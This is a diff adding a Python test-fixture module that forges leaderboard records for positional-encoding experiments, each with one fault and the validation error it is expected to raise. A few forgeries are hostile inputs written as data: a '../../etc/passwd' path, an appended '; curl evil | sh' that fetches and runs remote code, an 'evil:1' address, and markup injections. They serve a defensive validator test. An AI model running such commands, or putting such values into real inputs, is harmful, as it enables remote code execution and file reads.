@@ -1,0 +1,231 @@
+"""Forged records: each is a committed record with one change, and a word of the reason expected."""
+
+from __future__ import annotations
+
+import json
+from contextlib import suppress
+from copy import deepcopy
+from typing import Any
+
+from experiment.config import RunConfig
+from leaderboard.record.read import RECORDS
+
+GONE = object()
+Changes = dict[str, Any]
+
+
+def committed(folder: str, seed: int = 1) -> dict[str, Any]:
+    """The committed record of a seed, as plain data."""
+    raws = (json.loads(path.read_text("utf-8")) for path in (RECORDS / folder).glob("*.json"))
+    return next(raw for raw in raws if raw["seed"] == seed)
+
+
+def changed(raw: dict[str, Any], changes: Changes) -> dict[str, Any]:
+    """A copy with "config.train.steps": value; "scores.*" is both checkpoints, GONE deletes.
+
+    "append" goes to the end of the command. A changed config gets its hash.
+    """
+    raw = deepcopy(raw)
+    for path, value in changes.items():
+        if path == "append":
+            raw["provenance"]["command"] += f" {value}"
+            continue
+        checkpoints = raw["scores"] if "scores.*" in path else [""]
+        for checkpoint in checkpoints:
+            *parents, last = path.replace("*", checkpoint).split(".")
+            place = raw
+            for name in parents:
+                place = place[int(name) if isinstance(place, list) else name]
+            if value is GONE:
+                del place[int(last) if isinstance(place, list) else last]
+            else:
+                place[int(last) if isinstance(place, list) else last] = deepcopy(value)
+    if "run" not in changes and any(path.startswith("config") for path in changes):
+        with suppress(ValueError):  # settings that no run has
+            raw["run"] = RunConfig.model_validate(raw["config"]).hash
+    return raw
+
+
+def named(field: str, value: str, option: str) -> Changes:
+    """The encoding, task or protocol of a record, its config and its command."""
+    keys = ("label", "encoding") if field == "encoding" else (field,)
+    return {field: value, "append": f"{option} '{value}'"} | {
+        f"config.{key}": value for key in keys
+    }
+
+
+STEPS = [250, 500, 750, 1000, 1250, 1500, 1750, 2000]
+FORGED: dict[str, tuple[Changes, str]] = {
+    # The form.
+    "other schema": ({"schema": 2}, "schema: Input should be 1"),
+    "run is a path": ({"run": "../../etc/passwd"}, "run: String should match"),
+    "no seed": ({"seed": GONE}, "seed: Field required"),
+    "no eval": ({"config.eval": GONE}, "config.eval: Field required"),
+    "control characters": ({"encoding": "al\u0007ibi"}, "encoding: Value error, holds control"),
+    "turned text": ({"encoding": "alibi\u202egnp"}, "encoding: Value error, holds control"),
+    "long name": ({"encoding": "r" * 201}, "encoding: String should have at most 200"),
+    "markup in task": ({"task": "<img src=x>"}, "task: Value error, a task's name"),
+    "protocol with an empty mark": (named("protocol", "quick+", "--protocol"), "protocol: String"),
+    "protocol with a false mark": (named("protocol", "quick+zzz", "--protocol"), "protocol: Strin"),
+    "mode with markup": ({"modes": {"<b>": {"last": []}}}, "modes.<b>.[key]: String should match"),
+    "steps as text": ({"config.train.steps": "4000"}, "config.train.steps: Input should be"),
+    "lr as text": ({"config.train.lr": "0.002"}, "config.train.lr: Input should be"),
+    "one length": ({"config.train.lengths": [10]}, "config.train.lengths"),
+    "samples null": ({"config.eval.samples": None}, "config.eval.samples: Input should be"),
+    "every 0": ({"config.eval.every": 0}, "config.eval.every: Input should be greater than 0"),
+    "width below 0": ({"config.model.width": -64}, "config.model.width: Input should be greater"),
+    "heads that do not divide": ({"config.model.heads": 3}, "not a multiple of heads 3"),
+    "unknown setting": ({"config.train.magic": 1}, "config.train.magic: Extra inputs"),
+    "huge setting": ({"config.train.lr": 1e300}, "not finite or beyond 2**63"),
+    "unknown device": ({"config.device": "banana"}, "config.device: String should match"),
+    "unknown attention": ({"config.attention": "banana"}, "config.attention: Input should be"),
+    "huge number": ({"cost.parameters": 10**30}, "cost.parameters: Input should be less"),
+    "infinite cost": ({"cost.train_seconds": float("inf")}, "cost.train_seconds: Input should be"),
+    "no time zone": ({"provenance.finished": "2026-01-01T00:00:00"}, "needs a time zone"),
+    "NaN": ({"scores.last.0.exact": float("nan")}, "scores.last.0.exact: Input should be a finite"),
+    "text for a number": ({"scores.last.0.exact": "0.9"}, "scores.last.0.exact: Input should be"),
+    "share above 1": ({"scores.last.0.exact": 1.2}, "scores.last.0.exact: Input should be less"),
+    "share is not its counts": ({"scores.last.0.exact": 0.9}, "is not correct/count"),
+    "more right than asked": ({"scores.last.0.correct": 140}, "correct=140 is more than count=128"),
+    "more wrong than there are": ({"scores.last.0.correct": 128, "scores.last.0.exact": 1.0},
+        "wrong answers, but"),
+    "number without status ok": ({"scores.last.1.status": "cannot represent"}, "has no exact"),
+    "length twice": ({"scores.last.1.length": 10, "scores.last.1.seen": True}, "a length twice"),
+    "unseen called seen": ({"scores.last.1.seen": True}, "but training lengths were 1 to 10"),
+    "done without scores": ({"scores.last": []}, "needs scores.last"),
+    # Identity.
+    "other hash": ({"run": "0" * 16}, "but the hash of its config is"),
+    "config changed": ({"config.train.lr": 0.5, "run": "c5394b25a37d0559"},
+        "the hash of its config"),
+    "other encoding in config": ({"encoding": "rope"}, "but config.label is 'alibi'"),
+    "other seed in config": ({"seed": 7}, "seed is 7, but config.seed is 1"),
+    "GPU of a CPU": ({"env.device": "NVIDIA H100"}, "but config.device is cpu"),
+    # What the command makes.
+    "no command": ({"provenance.command": ""}, "not a plain pezoo command"),
+    "shell in command": ({"append": "; curl evil | sh"}, "not a plain pezoo command"),
+    "command that trains nothing": ({"provenance.command": "pezoo table chen2026"}, "pezoo bench"),
+    "unknown option": ({"append": "--blah"}, "'--blah' is not an option"),
+    "word that is not an option": ({"append": "more"}, "'more' is not an option"),
+    "address": ({"append": "--engine ray --address evil:1"}, "'--engine' is not an option"),
+    "option without a value": ({"append": "--seeds"}, "--seeds needs a value"),
+    "seeds in words": ({"append": "--seeds x"}, "cannot read seeds"),
+    "seeds without end": ({"append": f"--seeds 0-{10**23}"}, "expected 1 to"),
+    "other seeds": ({"append": "--seeds 5-9"}, "seed is 1, but the command"),
+    "other encodings": ({"append": "--pe rope,t5"}, "encoding is alibi, but the command"),
+    "encoding with options": ({"append": "--pe 'rope(base=5)'"}, "encoding is alibi, but"),
+    "unbalanced": ({"append": "--pe 'rope('"}, "unbalanced parentheses"),
+    "unknown encoding in command": ({"append": "--pe alibi,rope_"}, "unknown encoding 'rope_"),
+    "other task": ({"append": "--task reverse"}, "task is copy, but the command runs"),
+    "other task options": ({"append": "--task 'copy(symbols=2)'"}, "task is copy, but the"),
+    "other protocol": ({"append": "--protocol prism2025"}, "protocol is quick, but the c"),
+    "earlier file of another": ({"append": "--protocol earlier/turing2024-1.toml"}, "protocol"),
+    "file of one machine": ({"append": "--protocol /tmp/quick.toml"}, "other machines do not"),
+    "file beside": ({"append": "--protocol quick.toml"}, "other machines do not have"),
+    "protocol in a folder": ({"append": "--protocol evil/quick"}, "unknown protocol"),
+    "settings changed": ({"append": "--set train.steps=9"}, "the command changes train.st"),
+    "compiled": ({"append": "--compile"}, "the command changes train.compile=true"),
+    "rounded": ({"append": "--precision=bf16"}, "changes train.precision=bf16"),
+    "unknown setting in command": ({"append": "--set train.setps=1"}, "unknown setting in t"),
+    "tuned": ({"append": "--tune lr=1e-3,1e-2"}, "which does not fit the command's --tune"),
+    "other device": ({"append": "--device cuda"}, "config.device is cpu, but the command"),
+    "other attention": ({"append": "--attention eager"}, "config.attention is auto, but"),
+    "unknown encoding": (named("encoding", "alibbi", "--pe"), "unknown encoding 'alibbi'"),
+    "empty parentheses": (named("encoding", "alibi()", "--pe"), "encoding is alibi(), but the"),
+    "space": (named("encoding", "alibi( )", "--pe"), "encoding is alibi( ), but the command runs"),
+    "unknown option of alibi": (named("encoding", "alibi(foo=1)", "--pe"), "'foo'"),
+    "option given twice": (named("encoding", "rope(base=2,base=3)", "--pe"), "given twice"),
+    "path for a number": (named("encoding", "rope(base=../x)", "--pe"), "base of rope expects"),
+    "impossible value": (named("encoding", "rope(base=-5.0)", "--pe"), "base must be above 0"),
+    "unknown task": (named("task", "copi", "--task"), "unknown task 'copi'"),
+    "unknown option of copy": (named("task", "copy(zzz=1)", "--task"), "'zzz'"),
+    "option of copy given twice": (named("task", "copy(symbols=2,symbols=3)", "--task"), "twice"),
+    "impossible symbols": (named("task", "copy(symbols=99999)", "--task"), "must be within 2..10"),
+    "usual value": (named("task", "copy(symbols=10)", "--task"), "config.task is copy(symbols=10)"),
+    "unknown protocol": (named("protocol", "quik", "--protocol"), "unknown protocol 'quik'"),
+    "changed without a change": (
+        {"protocol": "quick+ab12cd", "config.protocol": "quick+ab12cd"}, "the command changes no"),
+    "other learning rate": ({"config.train.lr": 0.5}, "config.train.lr is 0.5, but the command"),
+    "wider": ({"config.model.width": 68}, "config.model.width is 68, but the command makes 64"),
+    "other full encoding": ({"config.encoding": "rope"},
+        "config.encoding is rope, but the command"),
+    "future encoding version": ({"config.encoding_version": 99},
+        "encoding_version 99 is not known"),
+    "future task version": ({"config.task_version": 99}, "task_version 99 is not known"),
+    # Results.
+    "failed without reason": ({"status": "failed", "scores.last": [], "scores.best": []},
+        "no reason"),
+    "failed with scores": ({"status": "failed", "reason": "loss is not finite"},
+        "there are scores"),
+    "no weights": ({"backbone_hash": None}, "backbone_hash is missing"),
+    "no chance": ({"chance": None}, "chance is missing"),
+    "other chance": ({"chance": 0.99}, "chance is 0.99, but copy has 0.1"),
+    "no learning curve": ({"learning": []}, "learning needs 8 points"),
+    "points left out": ({"learning.3": GONE},
+        "learning needs 8 points, every 250 steps up to 2000"),
+    "stopped early": ({"learning.7": GONE}, "learning needs 8 points"),
+    "steps fall": ({"learning.4.step": 250}, "learning needs 8 points"),
+    "no last loss": ({"learning.7.loss": None}, "learning needs a last loss"),
+    "negative loss": ({"learning.2.loss": -5.0}, "no loss below 0"),
+    "best beyond the end": ({"best_step": 9999}, "best_step 9999 is not a step"),
+    "best is not last": ({"scores.best.0.correct": 64, "scores.best.0.exact": 0.5,
+        "scores.best.0.token": 0.75}, "the last step is the best"),
+    "best left out": ({"scores.best": [], "best_step": 1750}, "scores.best has lengths []"),
+    "length left out": ({"scores.*.11": GONE}, "but config asks for"),
+    "invented mode": ({"modes": {"invented": "scores"}},
+        "modes has ['invented'], but alibi has none"),
+    "mode without a length": ({"modes": {"snapped": {"last": []}}},
+        "modes.snapped.scores.last has"),
+    "unasked test set": ({"sets": {"mine": []}}, "sets has ['mine'], but config asks for []"),
+    "in one pass": ({"scores.*.0.method": "one pass"}, "method 'one pass' does not fit"),
+    "more examples than asked": ({"scores.*.0.count": 200, "scores.*.0.exact": 0.49},
+        "expected 128"),
+    "fewer examples than asked": ({"scores.*.0.count": 100, "scores.*.0.exact": 0.98,
+        "scores.*.0.wrong": []}, "expected 128"),
+    "missing instances": ({"scores.*.11": {"length": 101, "seen": False, "status": "no instance"}},
+        "copy has instances of this length"),
+    "cannot represent": (
+        {"scores.*.1": {"length": 11, "seen": False, "status": "cannot represent"}},
+        "alibi represents every length"),
+    "answers without tokens": ({"scores.*.0.correct": 128, "scores.*.0.exact": 1.0,
+        "scores.*.0.wrong": [], "scores.*.0.tokens": None, "scores.*.0.token": 0.5}, "token=0.5"),
+    "right answers of no token": ({"scores.*.0.token": 0.0}, "token=0.0 of 1408 tokens"),
+    "too few right tokens": ({"scores.*.0.token": 0.5}, "token=0.5 of 1408 tokens"),
+    "wrong answers, right tokens": ({"scores.*.0.token": 1.0}, "token=1.0 of 1408 tokens"),
+    "token 0": ({"scores.*.0.token": 0.0, "scores.*.0.tokens": None}, "token=0.0, but 98 of 128"),
+    "token 1": ({"scores.*.0.token": 1.0, "scores.*.0.tokens": None}, "token=1.0, but 98 of 128"),
+    "longer answers": ({"scores.*.0.token": 0.75, "scores.*.0.tokens": 1536},
+        "expected 128 to 1408"),
+    "answers of no token": ({"scores.*.0.tokens": 99}, "99 tokens in 128 answers"),
+    "half a token": ({"scores.*.0.tokens": 1407, "scores.*.0.token": 0.9}, "not a share of 1407"),
+    "best evaluations unasked": ({"scores.top1": "last"},
+        "scores.top1 has scores, but eval.top is 0"),
+    # Costs.
+    "encoding larger than model": ({"cost.parameters": 5, "cost.encoding_parameters": 6},
+        "cost.parameters is 5"),
+    "other size": ({"cost.encoding_parameters": 1}, "cost.encoding_parameters is 1, expected 0"),
+    "no parameters": ({"cost.parameters": 0}, "cost.parameters is 0"),
+    "took no time": ({"cost.train_seconds": 0.0, "cost.cpu_seconds": 0.0},
+        "cost.train_seconds is 0"),
+    "no processor": ({"cost.cpu_seconds": 0}, "cost.cpu_seconds is 0, expected"),
+    "hardly busy": ({"cost.cpu_seconds": 1e-9}, "cost.cpu_seconds is 1e-09, expected"),
+    "busier than its cores": ({"cost.cpu_seconds": 1e6}, "cost.cpu_seconds is 1e+06, expected"),
+    "tests busier": ({"cost.eval_cpu_seconds": 1e6}, "cost.eval_cpu_seconds is 1e+06, expected"),
+    "faster than its time": ({"cost.steps_per_second": 5000.0}, "cost.steps_per_second is 5000"),
+    "no memory": ({"cost.peak_memory_mb": 0}, "cost.peak_memory_mb is 0, expected 50 to 1e+07"),
+    "memory of no machine": ({"cost.peak_memory_mb": 1e12}, "cost.peak_memory_mb is 1e+12"),
+    # Provenance.
+    "no commit": ({"env.commit": "unknown"}, "expected the hash of a commit"),
+    "from the future": ({"provenance.finished": "2999-01-01T00:00:00+00:00"}, "finished is 2999"),
+    "before this project": ({"provenance.finished": "1970-01-01T00:00:00+00:00"}, "expected 2020"),
+}  # fmt: skip
+
+
+def forged(name: str) -> dict[str, Any]:
+    """The record of one row of FORGED."""
+    base, (changes, _) = committed("quick/copy/alibi"), FORGED[name]
+    changes = dict(changes)
+    if changes.get("modes") == {"invented": "scores"}:
+        changes["modes"] = {"invented": base["scores"]}
+    if changes.get("scores.top1") == "last":
+        changes["scores.top1"] = base["scores"]["last"]
+    return changed(base, changes)
